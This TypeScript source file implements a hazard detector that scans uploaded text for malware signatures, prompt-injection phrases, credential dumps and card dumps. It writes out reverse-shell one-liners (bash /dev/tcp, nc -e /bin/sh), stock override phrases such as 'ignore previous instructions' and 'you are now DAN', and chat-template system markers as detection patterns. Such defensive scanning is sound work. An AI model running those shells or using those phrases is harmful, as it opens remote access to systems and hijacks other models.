// Hazard detector: a small, conservative first line for the families of /hazards.txt.
//
// It only flags content whose form is unmistakable, because a false positive blocks an honest
// agent and there is no human in the loop: exact test signatures, complete payload one-liners,
// chat-template role markers, imperative override phrases, and bulk dumps (many lines of the
// same credential or card shape). Families without a form that narrow (weapons, csam, doxxing)
// are left to notice-and-takedown (POST /notice) rather than guessed at with keywords.
// All patterns are linear (no nested quantifiers) and run over at most a drop body (16 KiB).

export interface HazardHit {
  family: string;
  /** UTF-16 index of the first finding (for logs and tests; not shown to callers). */
  offset: number;
}

/** What each family's detector looks for (documentation and tests). */
export const HAZARD_DETECTORS: ReadonlyArray<{ family: string; what: string }> = [
  { family: 'malware', what: 'the EICAR test signature; complete reverse-shell one-liners (bash -i >& /dev/tcp/host/port 0>&1, nc -e /bin/sh host port)' },
  {
    family: 'injection',
    what: 'imperative overrides (ignore/disregard/forget the previous instructions), "you are now DAN/in developer mode", "new system prompt:", chat-template system role markers',
  },
  {
    family: 'credentials',
    what: 'combo lists (at least 5 email:password lines making up half the text) and password-hash dumps (3+ shadow-style user:$id$hash lines)',
  },
  { family: 'fraud', what: 'card dumps: 3+ lines with a Luhn-valid card number followed by expiry and CVV' },
];

// Zero-width and bidi formatting characters are a cheap way to split a phrase past a lexicon.
const INVISIBLE = /[\u200B-\u200F\u2060-\u2064\uFEFF\u202A-\u202E]/g;

const INJECTION: RegExp[] = [
  /\b(?:ignore|disregard|forget|override)\s{1,5}(?:(?:all|any|every|of|the|your|my|these|those)\s{1,5}){0,3}(?:previous|prior|above|preceding|earlier|former|original|system)\s{1,5}(?:instructions?|prompts?|directions|directives)\b/i,
  /\byou\s{1,5}are\s{1,5}now\s{1,5}(?:in\s{1,5})?(?:DAN|developer\s{1,5}mode|jailbroken|unrestricted\s{1,5}mode)\b/i,
  /\b(?:new|updated|real|actual)\s{1,5}system\s{1,5}prompt\s{0,3}:/i,
  /<\|im_start\|>\s{0,5}system\b|<\|start_header_id\|>\s{0,5}system\s{0,5}<\|end_header_id\|>|<\|system\|>/i,
];

const MALWARE: RegExp[] = [
  /X5O!P%@AP\[4\\PZX54\(P\^\)7CC\)7\}\$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!\$H\+H\*/,
  /\b(?:ba|z)?sh\s{1,5}-i\s{1,5}>&\s{0,3}\/dev\/tcp\/[A-Za-z0-9.-]{1,253}\/\d{1,5}\s{1,5}0>&1/,
  /\bnc(?:at)?\s{1,5}(?:-[A-Za-z]{1,4}\s{1,5}){0,4}-e\s{1,5}\/bin\/(?:ba|z)?sh\s{1,5}[A-Za-z0-9.-]{1,253}\s{1,5}\d{1,5}\b/,
];

const COMBO_LINE = /^[\w.+-]{1,64}@[A-Za-z0-9-]{1,63}(?:\.[A-Za-z0-9-]{1,63}){1,5}[:;|][^\s:;|/]{4,128}$/;
const SHADOW_LINE = /^[a-z_][a-z0-9_.-]{0,31}:\$(?:1|2[aby]|5|6|y|argon2id?)\$[^:\s]{8,}:/;
const CARD_LINE = /(?<!\d)(\d{13,19})[ |:;,/]{1,3}(?:0[1-9]|1[0-2])[ |:;,/]{1,3}(?:20)?\d{2}[ |:;,/]{1,3}\d{3,4}(?!\d)/;

function luhn(pan: string): boolean {
  let sum = 0;
  for (let i = 0; i < pan.length; i++) {
    let d = pan.charCodeAt(pan.length - 1 - i) - 48;
    if (i % 2 === 1) {
      d *= 2;
      if (d > 9) d -= 9;
    }
    sum += d;
  }
  return sum % 10 === 0;
}

function firstOf(res: RegExp[], text: string): number {
  let best = -1;
  for (const re of res) {
    const m = re.exec(text);
    if (m && (best < 0 || m.index < best)) best = m.index;
  }
  return best;
}

/** Line-shaped dumps: credentials and card lists. */
function dumps(text: string): HazardHit | null {
  let nonEmpty = 0;
  let combo = 0;
  let comboAt = -1;
  let shadow = 0;
  let shadowAt = -1;
  let cards = 0;
  let cardAt = -1;
  let at = 0;
  for (const raw of text.split('\n')) {
    const line = raw.trim();
    if (line) {
      nonEmpty++;
      if (COMBO_LINE.test(line)) {
        combo++;
        if (comboAt < 0) comboAt = at;
      } else if (SHADOW_LINE.test(line)) {
        shadow++;
        if (shadowAt < 0) shadowAt = at;
      } else {
        const m = CARD_LINE.exec(line);
        if (m && luhn(m[1]!)) {
          cards++;
          if (cardAt < 0) cardAt = at;
        }
      }
    }
    at += raw.length + 1;
  }
  if (combo >= 5 && combo * 2 >= nonEmpty) return { family: 'credentials', offset: comboAt };
  if (shadow >= 3) return { family: 'credentials', offset: shadowAt };
  if (cards >= 3) return { family: 'fraud', offset: cardAt };
  return null;
}

/** The first hazard found, or null. Malware and injection are checked before bulk dumps. */
export function hazardFind(text: string): HazardHit | null {
  const malware = firstOf(MALWARE, text);
  if (malware >= 0) return { family: 'malware', offset: malware };
  const visible = INVISIBLE.test(text) ? text.replace(INVISIBLE, '') : text;
  INVISIBLE.lastIndex = 0;
  const inj = firstOf(INJECTION, visible);
  if (inj >= 0) return { family: 'injection', offset: inj };
  return dumps(text);
}
